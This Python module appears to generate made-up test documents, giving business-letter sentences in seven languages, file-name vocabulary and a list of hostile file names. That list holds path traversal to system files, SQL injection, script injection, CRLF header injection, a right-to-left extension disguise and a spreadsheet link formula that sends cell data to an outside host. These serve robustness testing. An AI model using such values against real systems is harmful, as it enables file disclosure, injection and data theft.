"""Words for made-up documents: sentences in seven languages, file names, and names that break careless code."""

from __future__ import annotations

import random
import unicodedata
from collections.abc import Mapping, Sequence
from dataclasses import dataclass

#: File names as hostile or careless users make them; every one stands in some CRM of this world.
AWKWARD_NAMES: Sequence[str] = (
    "../../etc/passwd",
    "scan.pdf",
    "evil\u202efdp.exe",
    "line\r\nSet-Cookie: a=b.txt",
    "nul\x00byte.pdf",
    "L" + "o" * 295 + ".pdf",
    "🧾 Rechnung 👩\u200d💼.pdf",
    "Angebot \"final\" 'v2' `neu`.docx",
    '=HYPERLINK("https://example.invalid/?q="&A1,"open").csv',
    ".htaccess",
    "scan.pdf",
    "notes.txt ",
    "report.",
    "CON.txt",
    "README",
    "invoice.pdf.exe",
    unicodedata.normalize("NFC", "Résumé Müller.docx"),
    unicodedata.normalize("NFD", "Résumé Müller.docx"),
    "100%25 sure%2Fnot.txt",
    "a;b;filename=c.pdf;d.csv",
    "..\\..\\windows\\system.ini",
    "scan.pdf",
    "<script>alert(1)</script>.html",
    "'; DROP TABLE documents; --.xlsx",
    "+49 30 1234567.vcf",
    "~$Vertrag.docx",
    "-rf",
    "file:name?*|.txt",
    "tab\there.csv",
    "\ufeffbom.xml",
    "zero\u200bwidth.pdf",
    "发票（二〇二四）.pdf",
    "Договор № 7.docx",
    " ",
)


@dataclass(frozen=True, slots=True)
class Language:
    """One language: its tag, sentences of ordinary business letters, and words for file names by kind."""

    tag: str
    sentences: Sequence[str]
    invoice: str
    contract: str
    letter: str
    prices: str
    photo: str
    message: str
    bundle: str
    item: str
    total: str


LANGUAGES: Mapping[str, Language] = {
    language.tag: language
    for language in (
        Language(
            tag="en",
            sentences=(
                "Thank you for your order, which we have received in good condition.",
                "The goods leave our warehouse on Monday and should reach you within five working days.",
                "Payment is due within thirty days of the date of this letter.",
                "Please quote the reference above in all correspondence about this matter.",
                "Either party may end this agreement in writing with three months' notice.",
                "The supplier warrants the equipment against faults of material and workmanship for two years.",
                "Our engineer visited the site and found the pump running within its limits.",
                "We enclose the signed delivery note and the photographs taken on arrival.",
                "Prices are net of tax and hold until the end of the quarter.",
            ),
            invoice="Invoice",
            contract="Service agreement",
            letter="Letter",
            prices="Price list",
            photo="Site photo",
            message="Re delivery",
            bundle="Case file",
            item="Item",
            total="Total",
        ),
        Language(
            tag="de",
            sentences=(
                "Vielen Dank für Ihren Auftrag, den wir hiermit gern bestätigen.",
                "Die Ware verlässt unser Lager am Montag und trifft voraussichtlich am Donnerstag bei Ihnen ein.",
                "Bitte überweisen Sie den Rechnungsbetrag innerhalb von dreißig Tagen ohne Abzug.",
                "Geben Sie bei Rückfragen stets das oben genannte Aktenzeichen an.",
                "Der Vertrag kann von beiden Seiten mit einer Frist von drei Monaten gekündigt werden.",
                "Für Mängel an Material und Verarbeitung haftet der Lieferant zwei Jahre lang.",
                "Unser Techniker hat die Anlage geprüft und keine Auffälligkeiten festgestellt.",
                "In der Anlage erhalten Sie den unterschriebenen Lieferschein und die Fotos der Übergabe.",
                "Alle Preise verstehen sich zuzüglich der gesetzlichen Umsatzsteuer.",
            ),
            invoice="Rechnung",
            contract="Rahmenvertrag",
            letter="Anschreiben",
            prices="Preisliste",
            photo="Baustellenfoto",
            message="AW Lieferung",
            bundle="Akte",
            item="Position",
            total="Gesamtbetrag",
        ),
        Language(
            tag="nl",
            sentences=(
                "Hartelijk dank voor uw bestelling, die wij in goede orde hebben ontvangen.",
                "De goederen verlaten maandag ons magazijn en zijn naar verwachting donderdag bij u.",
                "Wij verzoeken u het bedrag binnen dertig dagen over te maken.",
                "Vermeld bij vragen altijd het bovenstaande kenmerk.",
                "Beide partijen kunnen de overeenkomst opzeggen met een termijn van drie maanden.",
                "De leverancier staat twee jaar in voor gebreken in materiaal en afwerking.",
                "Onze monteur heeft de installatie nagekeken en geen bijzonderheden gevonden.",
                "Bijgevoegd vindt u de getekende pakbon en de foto's van de oplevering.",
                "Alle prijzen zijn exclusief btw en geldig tot het einde van het kwartaal.",
            ),
            invoice="Factuur",
            contract="Raamovereenkomst",
            letter="Brief",
            prices="Prijslijst",
            photo="Foto oplevering",
            message="Antw levering",
            bundle="Dossier",
            item="Regel",
            total="Totaal",
        ),
        Language(
            tag="fr",
            sentences=(
                "Nous vous remercions de votre commande, que nous avons bien reçue.",
                "La marchandise quittera notre entrepôt lundi et devrait vous parvenir sous cinq jours ouvrés.",
                "Le règlement est attendu dans les trente jours suivant la date de la présente.",
                "Merci de rappeler la référence ci-dessus dans toute correspondance.",
                "Chaque partie peut résilier le contrat par écrit moyennant un préavis de trois mois.",
                "Le fournisseur garantit le matériel pendant deux ans contre tout défaut de fabrication.",
                "Notre technicien a contrôlé l'installation et n'a relevé aucune anomalie.",
                "Vous trouverez ci-joint le bon de livraison signé et les photos prises à la réception.",
                "Les prix s'entendent hors taxes et restent valables jusqu'à la fin du trimestre.",
            ),
            invoice="Facture",
            contract="Contrat-cadre",
            letter="Courrier",
            prices="Tarif",
            photo="Photo chantier",
            message="RE livraison",
            bundle="Dossier",
            item="Article",
            total="Total à payer",
        ),
        Language(
            tag="pt",
            sentences=(
                "Agradecemos o seu pedido, que recebemos em perfeitas condições.",
                "A mercadoria sai do nosso armazém na segunda-feira e chega em até cinco dias úteis.",
                "O pagamento deve ser feito em até trinta dias a contar da data desta carta.",
                "Cite sempre a referência acima em qualquer contato sobre este assunto.",
                "Qualquer das partes pode rescindir o contrato com aviso prévio de três meses.",
                "O fornecedor garante o equipamento por dois anos contra defeitos de fabricação.",
                "Nosso técnico inspecionou a instalação e não encontrou nenhuma falha.",
                "Seguem em anexo a nota de entrega assinada e as fotografias da recepção.",
                "Os preços não incluem impostos e valem até o fim do trimestre.",
            ),
            invoice="Nota fiscal",
            contract="Contrato de serviço",
            letter="Carta",
            prices="Tabela de preços",
            photo="Foto da obra",
            message="RES entrega",
            bundle="Processo",
            item="Item",
            total="Valor total",
        ),
        Language(
            tag="ru",
            sentences=(
                "Благодарим вас за заказ, который мы получили в полном порядке.",
                "Товар покинет наш склад в понедельник и прибудет к вам в течение пяти рабочих дней.",
                "Просим оплатить счёт в течение тридцати дней с даты настоящего письма.",
                "Пожалуйста, указывайте номер дела во всей переписке.",
                "Каждая сторона вправе расторгнуть договор, уведомив другую за три месяца.",
                "Поставщик даёт на оборудование гарантию сроком на два года.",
                "Наш инженер осмотрел установку и не нашёл неисправностей.",
                "К письму приложены подписанная накладная и фотографии груза.",
                "Цены указаны без налога и действительны до конца квартала.",
            ),
            invoice="Счёт",
            contract="Договор",
            letter="Письмо",
            prices="Прайс-лист",
            photo="Фото объекта",
            message="Ответ поставка",
            bundle="Дело",
            item="Позиция",
            total="Итого",
        ),
        Language(
            tag="zh",
            sentences=(
                "感谢贵公司的订单，我们已经如数收到货物。",
                "货物将于星期一离开仓库，预计五个工作日内送达。",
                "请在本函日期起三十天内付清款项。",
                "来函请注明上述编号，以便我们查找档案。",
                "任何一方均可提前三个月以书面形式解除本合同。",
                "供应商对设备的材料和工艺缺陷提供两年保修。",
                "我们的工程师检查了设备，没有发现异常情况。",
                "随信附上已签字的送货单以及到货时拍摄的照片。",
                "以上价格不含税，有效期至本季度末。",
            ),
            invoice="发票",
            contract="服务合同",
            letter="信函",
            prices="价目表",
            photo="现场照片",
            message="回复 交货",
            bundle="案卷",
            item="项目",
            total="合计",
        ),
    )
}

#: kind -> (suffixes in use, attribute of Language that begins the name)
_NAMING: Mapping[str, tuple[Sequence[str], Sequence[str]]] = {
    "pdf": ((".pdf", ".pdf", ".pdf", ".PDF"), ("invoice", "contract", "letter")),
    "docx": ((".docx",), ("letter", "contract")),
    "xlsx": ((".xlsx",), ("prices",)),
    "jpeg": ((".jpg", ".jpg", ".JPG", ".jpeg"), ("photo",)),
    "png": ((".png",), ("photo",)),
    "tiff": ((".tif", ".tiff"), ("letter", "contract")),
    "eml": ((".eml",), ("message",)),
    "zip": ((".zip",), ("bundle",)),
    "txt": ((".txt",), ("letter",)),
    "csv": ((".csv",), ("prices",)),
    "xml": ((".xml",), ("invoice",)),
}


def file_name(dice: random.Random, kind: str, language: str) -> str:
    """A name as an ordinary user would give it, such as "Rechnung 2023-00412.pdf"."""
    suffixes, words = _NAMING[kind]
    word: str = getattr(LANGUAGES[language], dice.choice(words))
    number = f"{dice.randint(2018, 2026)}-{dice.randint(1, 99999):05}"
    return f"{word} {number}{dice.choice(suffixes)}"


def paragraph(dice: random.Random, language: str, sentences: int) -> str:
    """That many sentences in one paragraph."""
    joint = "" if language == "zh" else " "
    return joint.join(dice.choice(LANGUAGES[language].sentences) for _ in range(sentences))
